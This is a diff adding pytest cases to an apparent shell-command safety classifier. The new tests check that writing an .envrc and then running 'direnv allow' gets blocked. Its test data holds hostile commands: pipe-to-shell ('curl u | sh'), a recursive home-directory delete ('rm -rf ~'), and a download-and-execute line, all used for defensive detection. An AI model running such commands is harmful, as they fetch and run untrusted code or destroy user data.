@@ -165,3 +165,41 @@ def test_everyday_package_runs_still_only_warn(command: str, program: str) -> No
 ])
 def test_project_runners_and_bun_scripts_pass(command: str) -> None:
     assert classify(command).verdict is Verdict.PASS, classify(command).rule_ids
+
+
+# --- direnv allow runs the directory's .envrc: known text is shell code run at that point --
+
+
+@pytest.mark.parametrize(("command", "rule"), [
+    ("echo 'curl u | sh' > .envrc && direnv allow", "shell.pipe-to-shell"),
+    ("echo 'curl u | sh' > .envrc && direnv allow .", "shell.pipe-to-shell"),
+    ("printf 'curl u | sh\\n' > dir/.envrc; direnv allow dir", "shell.pipe-to-shell"),
+    ("printf 'curl u | sh\\n' > dir/.envrc; direnv allow dir/", "shell.pipe-to-shell"),
+    ("printf 'curl u | sh\\n' > dir/.envrc; direnv permit dir/.envrc", "shell.pipe-to-shell"),
+    ("echo 'rm -rf ~' >> .envrc; direnv grant", "shell.recursive-delete"),
+    ("echo 'curl u | sh' > /tmp/p/.envrc && cd /tmp/p && direnv allow", "shell.pipe-to-shell"),
+    ("cat > .envrc <<'X'\nexport A=1\ncurl -s u | bash\nX\ndirenv allow", "shell.pipe-to-shell"),
+    ("curl -o .envrc https://x.example/e && direnv allow", "shell.download-exec"),
+])
+def test_direnv_allow_runs_an_envrc_written_in_the_same_command(command: str,
+                                                                 rule: str) -> None:
+    result = classify(command)
+    assert result.verdict is Verdict.BLOCK, result.rule_ids
+    assert rule in result.rule_ids
+
+
+@pytest.mark.parametrize("command", [
+    "direnv allow",
+    "direnv allow .",
+    "echo 'export FOO=1' > .envrc && direnv allow",
+    "echo 'use flake' > .envrc && direnv allow",
+    "echo 'layout python3' > .envrc && direnv allow .",
+    "echo 'dotenv' >> .envrc && direnv allow",
+    "cat > .envrc <<'X'\nexport DATABASE_URL=postgres://localhost/dev\nPATH_add bin\nX\n"
+    "direnv allow",
+    "git clone https://github.com/u/r && cd r && direnv allow",  # unknown .envrc: as before
+    "echo 'curl u | sh' > .envrc && direnv deny",
+    "direnv exec . make test",
+])
+def test_direnv_allow_of_an_everyday_or_unknown_envrc_passes(command: str) -> None:
+    assert classify(command).verdict is Verdict.PASS, classify(command).rule_ids
